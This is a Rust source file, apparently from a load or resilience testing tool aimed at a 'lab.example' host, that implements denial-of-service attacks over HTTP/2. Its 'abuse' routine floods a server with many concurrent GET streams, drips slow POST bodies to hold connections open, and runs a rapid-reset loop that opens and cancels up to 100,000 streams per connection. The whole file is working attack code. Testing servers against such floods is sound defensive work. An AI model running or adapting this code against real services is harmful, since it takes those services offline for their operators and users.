//! A peer that opens streams of HTTP/2, and answers nothing but pings.

use std::{
    net::SocketAddr,
    thread::sleep,
    time::{Duration, Instant},
};

use crate::{
    course::{Course, REST, ROUND},
    frames::Frames,
    way::{Act, Field},
};

/// As many as the service lets.
const STREAMS: u32 = 32;
/// About the size of the frames that ask for something.
const ASK: usize = 64;
/// Content of a frame, in bytes (RFC 9113 section 4.2).
const FRAME: usize = 16 * 1024;
/// How long it listens for pings.
const LISTEN: Duration = Duration::from_millis(200);
/// No stream has this number.
const NONE: u32 = 0x7fff_ffff;
/// Streams that are reset on one connection.
const STREAMS_IN_A_ROW: u32 = 100_000;
/// The type of the frame that resets a stream, and what it says (RFC 9113 sections 6.4
/// and 7).
const RST_STREAM: u8 = 3;
const CANCEL: [u8; 4] = [0, 0, 0, 8];
/// What windows say when content is sent.
const WINDOW: u32 = 65_535;

/// Comes again and again, until the attack is over.
pub(crate) fn abuse(address: SocketAddr, act: &Act, course: &Course) {
    while !course.is_over() {
        let begun = Instant::now();
        let mut frames = begin(address, act, course);
        frames.give_up_after(LISTEN);
        while !course.is_over() && begun.elapsed() < ROUND {
            if frames.receive(NONE).ended != "silence" {
                sleep(10 * REST);
                break;
            }
        }
    }
}

fn begin(address: SocketAddr, act: &Act, course: &Course) -> Frames {
    let streams = (0..STREAMS).map(|number| 2 * number + 1);
    match act {
        Act::Ask { target, field, window } => {
            let mut frames = Frames::to(address, *window);
            for stream in streams {
                if course.may_send(ASK + target.len()) {
                    frames.fields(stream, &head("GET", target, *field), true);
                }
            }
            frames
        }
        Act::Post { target, field, length } => {
            let mut frames = Frames::to(address, WINDOW);
            for stream in streams {
                frames.fields(stream, &head("POST", target, *field), false);
                post(&mut frames, stream, *length, course);
            }
            frames
        }
        Act::Reset { target } => {
            let mut frames = Frames::to(address, WINDOW);
            reset(&mut frames, target, course);
            frames
        }
        Act::Send { .. } | Act::Repeat { .. } => {
            unreachable!("that takes no streams")
        }
    }
}

fn head<'a>(method: &'a str, target: &'a str, field: Field) -> [(&'a str, &'a str); 5] {
    [
        (":method", method),
        (":scheme", "http"),
        (":authority", "lab.example"),
        (":path", target),
        field,
    ]
}

/// Sends at the pace of a service that takes all of it.
fn post(frames: &mut Frames, stream: u32, length: usize, course: &Course) {
    let content = [b'x'; FRAME];
    let mut sent = 0;
    while sent < length && !course.is_over() && course.may_send(FRAME) {
        let portion = FRAME.min(length - sent);
        frames.data(stream, &content[..portion], false);
        sent += portion;
        frames.give_up_after(REST);
        if frames.receive(NONE).ended != "silence" {
            return;
        }
    }
}

/// Asks, and resets before the answer, as fast as the service takes it.
fn reset(frames: &mut Frames, target: &str, course: &Course) {
    let head = head("GET", target, ("accept", "*/*"));
    for stream in (0..STREAMS_IN_A_ROW).map(|number| 2 * number + 1) {
        if course.is_over() || !course.may_send(ASK + target.len()) {
            return;
        }
        frames.fields(stream, &head, true);
        frames.send(RST_STREAM, 0, stream, &CANCEL);
        if stream % STREAMS == 1 {
            frames.give_up_after(REST);
            if frames.receive(NONE).ended != "silence" {
                return;
            }
        }
    }
}
